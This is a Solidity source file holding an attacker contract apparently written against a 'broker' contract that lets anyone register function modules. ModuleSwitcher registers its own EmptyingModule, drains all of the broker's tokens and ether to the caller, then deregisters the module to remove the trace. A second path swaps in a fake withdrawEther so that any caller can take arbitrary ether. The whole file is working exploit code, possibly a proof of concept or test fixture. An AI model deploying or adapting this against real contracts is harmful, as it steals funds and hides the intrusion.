// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

interface IBroker {
    function setModule(bytes4 selector, address module) external;

    function setModules(bytes4[] calldata selectors, address module) external;
}

/// Runs with the broker's storage and purse once it is a module.
contract EmptyingModule {
    function empty(IToken token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok, "payment failed");
    }

    /// In the place of a function that everybody calls.
    function withdrawEther(uint256 amount) external {
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "payment failed");
    }

    function withdrawTokens(uint256) external pure {
        revert("later");
    }
}

/// Appoints its own module, uses it and takes the trace away.
contract ModuleSwitcher {
    EmptyingModule private immutable module = new EmptyingModule();

    function run(IBroker broker, IToken token) external {
        broker.setModule(EmptyingModule.empty.selector, address(module));
        EmptyingModule(address(broker)).empty(token, msg.sender);
        broker.setModule(EmptyingModule.empty.selector, address(0));
    }

    function runInPlace(IBroker broker, uint256 amount) external {
        bytes4[] memory selectors = new bytes4[](2);
        selectors[0] = EmptyingModule.withdrawEther.selector;
        selectors[1] = EmptyingModule.withdrawTokens.selector;
        broker.setModules(selectors, address(module));
        EmptyingModule(address(broker)).withdrawEther(amount);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
